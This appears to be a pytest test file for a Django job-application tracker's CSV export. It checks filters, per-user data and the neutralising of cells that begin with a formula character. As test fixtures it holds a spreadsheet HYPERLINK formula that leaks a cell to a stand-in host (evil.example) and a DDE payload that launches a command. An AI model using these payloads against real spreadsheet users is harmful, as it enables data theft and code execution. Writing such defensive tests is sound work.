"""CSV export: the list's filters and order, every cell safe from formula injection."""

from __future__ import annotations

import csv
import io

import pytest

from analysis.status import Status
from tracker import export
from tracker.tests.tracker_factory import result, store

pytestmark = pytest.mark.django_db

APPLIED = Status.APPLICATION_CONFIRMATION
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows_of(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="applications.csv"'
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Acme", "Acme"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(cell, safe) -> None:
    assert export.neutralise(cell) == safe


def test_a_hostile_company_name_is_exported_as_text(client, owner) -> None:
    store(
        owner,
        result("m1", APPLIED, HYPERLINK, "@cmd|' /C calc'!A0"),
        result("m2", APPLIED, "Acme", "-Engineer"),
    )
    client.force_login(owner)
    header, *rows = rows_of(client.get("/applications/export.csv?sort=company"))
    assert header == export.HEADER
    by_company = {row[0]: row for row in rows}
    assert by_company["'" + HYPERLINK][1] == "'@cmd|' /C calc'!A0"
    assert by_company["Acme"][1] == "'-Engineer"
    for row in rows:
        assert not any(cell[:1] in "=+-@\t\r" and cell for cell in row)


def test_the_export_honours_filters_and_is_the_user_s_own(client, owner, other_user) -> None:
    store(
        owner,
        result("a1", APPLIED, "Acme", "Engineer", day=1),
        result("g1", Status.REJECTION, "Globex", "Analyst", day=2),
        result("h1", APPLIED, "Hooli", "Engineer", day=3),
    )
    store(other_user, result("x1", APPLIED, "Initech", "Engineer"))
    client.force_login(owner)
    _, *rows = rows_of(client.get("/applications/export.csv?status=application_confirmation"))
    assert [row[0] for row in rows] == ["Hooli", "Acme"]
    assert rows[0][2] == "Applied"
    assert rows[0][6] == "1"
    assert rows[0][7].startswith("http://testserver/applications/")
    _, *everything = rows_of(client.get("/applications/export.csv?sort=company"))
    assert [row[0] for row in everything] == ["Acme", "Globex", "Hooli"]


def test_the_list_links_to_the_export_with_its_filters(client, owner) -> None:
    store(owner, result("a1", APPLIED, "Acme", "Engineer"))
    client.force_login(owner)
    page = client.get("/applications?status=offer&q=acme&page=1").content.decode()
    assert 'href="/applications/export.csv?status=offer&amp;q=acme"' in page


def test_bad_export_parameters_are_a_400(client, owner) -> None:
    client.force_login(owner)
    response = client.get("/applications/export.csv?status=hired")
    assert response.status_code == 400
    assert "status: Select a valid choice" in response.content.decode()


def test_the_export_needs_a_signed_in_user(client) -> None:
    assert client.get("/applications/export.csv").status_code == 302
